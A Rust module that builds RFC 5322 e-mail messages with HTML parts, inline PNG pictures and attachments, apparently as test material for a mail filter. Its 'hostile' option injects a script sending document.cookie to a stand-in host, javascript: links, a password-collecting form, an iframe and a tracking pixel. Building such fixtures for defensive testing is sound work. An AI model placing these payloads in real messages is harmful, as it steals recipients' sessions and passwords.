//! E-mails as RFC 5322 messages: HTML with pictures inside, some with what has to be blocked.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use chrono::{DateTime, Utc};

/// An e-mail.
pub struct Email<'a> {
    /// From, as a name and an address.
    pub from: (&'a str, &'a str),
    /// To, as a name and an address.
    pub to: (&'a str, &'a str),
    /// Subject.
    pub subject: &'a str,
    /// When.
    pub at: DateTime<Utc>,
    /// Left of the at sign in its Message-ID.
    pub id: &'a str,
    /// Plain text.
    pub text: &'a str,
    /// What surrounds the text in the HTML part; without it the message is plain text alone.
    pub html: Option<Dress<'a>>,
    /// A file that goes with it: name, media type, bytes.
    pub attachment: Option<(&'a str, &'a str, &'a [u8])>,
}

/// The HTML of an e-mail.
pub struct Dress<'a> {
    /// A picture within the message, PNG.
    pub picture: Option<&'a [u8]>,
    /// Whether it has a tracking pixel, a script, a form and a remote style sheet.
    pub hostile: bool,
}

/// The bytes of the message, with CRLF.
#[must_use]
pub fn message(email: &Email<'_>) -> Vec<u8> {
    let mut head = vec![
        format!("From: {} <{}>", word(email.from.0), email.from.1),
        format!("To: {} <{}>", word(email.to.0), email.to.1),
        format!("Subject: {}", word(email.subject)),
        format!("Date: {}", email.at.to_rfc2822()),
        format!("Message-ID: <{}@post.ntl.example.no>", email.id),
        "MIME-Version: 1.0".to_owned(),
    ];
    let mut body = content(email);
    if let Some((name, media_type, bytes)) = email.attachment {
        let file = format!(
            "Content-Type: {media_type}; name=\"{name}\"\r\nContent-Disposition: attachment; filename=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
            folded(bytes)
        );
        body = multipart("mixed", "ytre-5d1c", &[body, file]);
    }
    head.push(body);
    head.join("\r\n").into_bytes()
}

fn content(email: &Email<'_>) -> String {
    let plain = part("text/plain; charset=utf-8", email.text);
    let Some(dress) = &email.html else { return plain };
    let html = part("text/html; charset=utf-8", &html(email, dress));
    let alternative = multipart("alternative", "indre-8a02", &[plain, html]);
    let Some(picture) = dress.picture else { return alternative };
    let inline = format!(
        "Content-Type: image/png; name=\"bilde.png\"\r\nContent-ID: <bilde@post.ntl.example.no>\r\nContent-Disposition: inline; filename=\"bilde.png\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
        folded(picture)
    );
    multipart("related", "midtre-3f77", &[alternative, inline])
}

fn html(email: &Email<'_>, dress: &Dress<'_>) -> String {
    let mut out = String::from("<!doctype html><html lang=\"nb\"><head><meta charset=\"utf-8\">");
    if dress.hostile {
        out.push_str("<link rel=\"stylesheet\" href=\"https://stil.example.com/brev.css\">");
        out.push_str("<script>document.location='https://sporing.example.com/?c='+document.cookie</script>");
    }
    out.push_str("</head><body style=\"font-family:sans-serif\">");
    if dress.picture.is_some() {
        out.push_str("<p><img src=\"cid:bilde@post.ntl.example.no\" alt=\"\" width=\"480\"></p>");
    }
    out.push_str(&format!("<h1>{}</h1>", escaped(email.subject)));
    for paragraph in email.text.split("\n\n") {
        out.push_str(&format!("<p>{}</p>", escaped(paragraph).replace('\n', "<br>")));
    }
    if dress.hostile {
        out.push_str(
            "<p onclick=\"alert(1)\"><a href=\"javascript:alert(1)\">Les mer</a> \
             <a href=\"https://sporing.example.com/r?u=40218873\">på nettsidene</a></p>\
             <form action=\"https://sporing.example.com/svar\"><input name=\"passord\"></form>\
             <iframe src=\"https://sporing.example.com/ramme\"></iframe>",
        );
        out.push_str(
            "<img src=\"https://sporing.example.com/p.gif?m=40218873\" width=\"1\" height=\"1\" alt=\"\">",
        );
    }
    out.push_str("<hr><p><small>Norsk Tjenestemannslag – demonstrasjon med oppdiktede personer</small></p></body></html>");
    out
}

fn part(media_type: &str, text: &str) -> String {
    format!(
        "Content-Type: {media_type}\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n{}",
        quoted_printable(text)
    )
}

fn multipart(kind: &str, boundary: &str, parts: &[String]) -> String {
    let mut out = format!("Content-Type: multipart/{kind}; boundary=\"{boundary}\"\r\n");
    for part in parts {
        out.push_str(&format!("\r\n--{boundary}\r\n{part}\r\n"));
    }
    out.push_str(&format!("\r\n--{boundary}--\r\n"));
    out
}

/// Encoded words where the text is not ASCII (RFC 2047), each within 75 characters.
fn word(text: &str) -> String {
    if text.is_ascii() {
        return text.to_owned();
    }
    let mut words = Vec::new();
    let mut chunk = String::new();
    for c in text.chars() {
        if chunk.len() + c.len_utf8() > 42 {
            words.push(std::mem::take(&mut chunk));
        }
        chunk.push(c);
    }
    words.push(chunk);
    let encoded: Vec<String> =
        words.iter().map(|chunk| format!("=?utf-8?B?{}?=", STANDARD.encode(chunk))).collect();
    encoded.join("\r\n ")
}

fn folded(bytes: &[u8]) -> String {
    let text = STANDARD.encode(bytes);
    let mut out = String::with_capacity(text.len() + text.len() / 38);
    for (index, c) in text.char_indices() {
        if index > 0 && index % 76 == 0 {
            out.push_str("\r\n");
        }
        out.push(c);
    }
    out
}

/// Quoted-printable (RFC 2045, 6.7).
fn quoted_printable(text: &str) -> String {
    let mut out = String::with_capacity(text.len() * 5 / 4);
    for line in text.lines() {
        let mut width = 0;
        let last = line.len().saturating_sub(1);
        for (index, byte) in line.bytes().enumerate() {
            let plain = matches!(byte, b'!'..=b'<' | b'>'..=b'~') || (byte == b' ' && index != last);
            let taken = if plain { 1 } else { 3 };
            if width + taken > 75 {
                out.push_str("=\r\n");
                width = 0;
            }
            if plain {
                out.push(char::from(byte));
            } else {
                out.push_str(&format!("={byte:02X}"));
            }
            width += taken;
        }
        out.push_str("\r\n");
    }
    out
}

fn escaped(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;")
}
